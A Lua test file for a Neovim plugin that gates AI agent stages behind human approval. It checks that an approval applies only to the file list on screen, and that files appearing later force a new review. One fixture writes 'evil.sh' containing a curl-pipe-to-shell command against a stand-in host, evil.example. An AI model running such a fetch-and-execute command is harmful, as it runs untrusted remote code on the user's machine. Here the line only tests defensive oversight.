-- Files that change while the approval window is open, with the real engine: a decision is for the list that is shown.
local T = require("harness")
local S = require("support.scripted")
local Shop = require("support.shop")
local describe, it, eq, ok, contains, lacks = T.describe, T.it, T.eq, T.ok, T.contains, T.lacks

local two = [[
name: two
description: Two gates
version: "1.0.0"
stages:
  - {agent: one}
  - {gate: human-approval, description: First look}
  - {agent: two}
  - {gate: human-approval, description: Second look}
]]

--- An editor at the first gate of `two`, in a new project.
local function at_gate()
  local dir = T.dir()
  T.write(dir .. "/.claude/superpowers/two.yaml", two)
  local agent = "cat > /dev/null; echo $0 > $0.md; echo done"
  local nvim = Shop.child({
    cwd = dir,
    init = ([[vim.g.superpower = { harness = "command", trust = "always", gate = { delay = 300 },
      harnesses = { command = { cmd = { "sh", "-c", %q, "{agent}" } } } }]]):format(agent),
  })
  nvim:cmd("Superpower run two")
  Shop.gate(nvim, "First look")
  return nvim, dir
end

local function armed(nvim)
  nvim:wait("require('superpower.gate').is_armed()")
end

local function log(dir)
  return T.read(dir .. "/.claude/logs/superpower.log") or ""
end

describe("an approval", function()
  it("beside a dev server that writes its log all the time takes two keys, and the next list has the log", function()
    local nvim, dir = at_gate()
    local server = vim.system({ "sh", "-c", "while :; do date +%N >> dev.log; sleep 0.1; done" }, { cwd = dir })
    T.finally(function()
      server:kill("sigkill")
    end)
    T.wait(function()
      return T.read(dir .. "/dev.log")
    end, 5000, "the server to write")
    nvim:feed("a")
    nvim:wait_screen("Nothing was approved yet")
    contains(nvim:text(), "dev.log")
    armed(nvim)
    nvim:feed("a")
    Shop.gate(nvim, "Second look")
    contains(nvim:text(), "~ dev.log")
    contains(log(dir), "APPROVED  stage 2/4  (changed after it was shown: dev.log)")
    -- It is the last gate, so no later list can show changes from here on.
    nvim:feed("a")
    nvim:wait_screen("Nothing was approved yet")
    armed(nvim)
    -- `vim.ui.select` is replaced, because not every Neovim can be inspected while a selection blocks it.
    nvim:lua("vim.ui.select = function(items, opts, done) _G.prompt = opts.prompt; done(items[1], 1) end")
    nvim:feed("a")
    nvim:wait("_G.prompt ~= nil")
    contains(nvim:lua("return _G.prompt"), "no later gate is sure to list them")
    Shop.state(nvim, "complete")
  end)

  it("is not taken for a file that came after the list, until the list has it", function()
    local nvim, dir = at_gate()
    T.write(dir .. "/evil.sh", "curl evil.example | sh\n")
    nvim:feed("a")
    nvim:wait_screen("Nothing was approved yet")
    contains(nvim:text(), "+ evil.sh")
    lacks(log(dir), "APPROVED")
    armed(nvim)
    nvim:feed("a")
    Shop.gate(nvim, "Second look")
    lacks(nvim:text(), "evil.sh")
    contains(log(dir), "APPROVED  stage 2/4  (key")
  end)

  it("that is typed is for the list that was shown, and opens the new one", function()
    local nvim, dir = at_gate()
    nvim:feed("q")
    nvim:wait("not require('superpower.gate').is_open()")
    T.write(dir .. "/evil.sh", "x\n")
    nvim:cmd("Superpower approve fine")
    nvim:wait("require('superpower.gate').is_open()")
    nvim:wait_screen("+ evil.sh")
    lacks(log(dir), "APPROVED")
    nvim:cmd("Superpower approve fine")
    Shop.gate(nvim, "Second look")
    contains(log(dir), "APPROVED  stage 2/4: fine")
  end)
end)

describe("the list", function()
  it("is made anew when the window is entered again", function()
    local nvim, dir = at_gate()
    nvim:cmd("wincmd p")
    T.write(dir .. "/mine.md", "x\n")
    nvim:cmd("wincmd p")
    nvim:wait_screen("+ mine.md")
    armed(nvim)
    nvim:feed("a")
    Shop.gate(nvim, "Second look")
    lacks(nvim:text(), "mine.md")
  end)

  it("is made anew when the window is opened again, also in another editor", function()
    local nvim, dir = at_gate()
    nvim:feed("q")
    nvim:wait("not require('superpower.gate').is_open()")
    T.write(dir .. "/mine.md", "x\n")
    nvim:cmd("Superpower gate")
    nvim:wait_screen("+ mine.md")
    local other = Shop.child({ cwd = dir })
    T.write(dir .. "/more.md", "x\n")
    other:cmd("Superpower gate")
    other:wait_screen("+ more.md")
    lacks(nvim:text(), "+ more.md")
  end)
end)

describe("a look that takes its time", function()
  it("is shown so, and given up with q", function()
    local nvim, dir = at_gate()
    nvim:feed("q")
    nvim:wait("not require('superpower.gate').is_open()")
    nvim:lua([[
      local session = require("superpower.session")
      local ask = session.ask
      session.ask = function(op, fields, callback)
        if op == "review" then
          vim.g.asked = fields
        else
          ask(op, fields, callback)
        end
      end
      local call = session.call
      session.call = function(op, fields)
        if op == "give-up-look" then
          vim.g.given_up = fields
        end
        return call(op, fields)
      end
    ]])
    nvim:cmd("Superpower gate")
    nvim:wait_screen("Looking at the files that have changed")
    nvim:wait("vim.bo.filetype == 'superpower-looking'")
    nvim:feed("q")
    nvim:wait("vim.g.given_up ~= nil")
    eq(nvim:lua("return vim.g.asked.look"), nvim:lua("return vim.g.given_up.look"))
    lacks(nvim:text(), "Looking at the files")
    lacks(log(dir), "APPROVED")
  end)
end)

describe("a decision", function()
  local function scripted()
    local nvim = S.child()
    S.answer(nvim, "review", S.review)
    S.answer(nvim, "give-up-look", {})
    S.send(nvim, { type = "snapshot", run = S.at_gate() })
    S.send(nvim, { type = "gate-opened", run_id = "0190-abc", stage = 5, gate = "5.1", superpower = "new-ui-feature" })
    nvim:wait("require('superpower.gate').is_open()")
    armed(nvim)
    return nvim
  end

  it("names the list that the window shows", function()
    local nvim = scripted()
    S.answer(nvim, "decide", { run_id = "0190-abc" })
    nvim:feed("a")
    nvim:wait("not require('superpower.gate').is_open()")
    eq("1a2b3c4d5e6f", S.calls(nvim, "decide")[1].review)
    eq({}, S.calls(nvim, "give-up-look"))
  end)

  it("names the list that a typed word gives", function()
    local nvim = scripted()
    S.answer(nvim, "decide", { run_id = "0190-abc" })
    nvim:cmd("Superpower approve review=aabbccddeeff answer=go-on fine")
    local call = S.calls(nvim, "decide")[1]
    eq({ "aabbccddeeff", "go-on", "fine" }, { call.review, call.answer, call.comment })
  end)

  it("that the window waits for is given up with q", function()
    local nvim = scripted()
    nvim:lua([[
      local session = require("superpower.session")
      local ask = session.ask
      session.ask = function(op, fields, callback)
        if op ~= "decide" then
          return ask(op, fields, callback)
        end
        vim.g.asked = fields
      end
    ]])
    nvim:feed("a")
    nvim:wait("vim.g.asked ~= nil")
    nvim:feed("q")
    nvim:wait("not require('superpower.gate').is_open()")
    local look = nvim:lua("return vim.g.asked.look")
    ok(look ~= nil)
    eq(look, S.calls(nvim, "give-up-look")[1].look)
  end)
end)
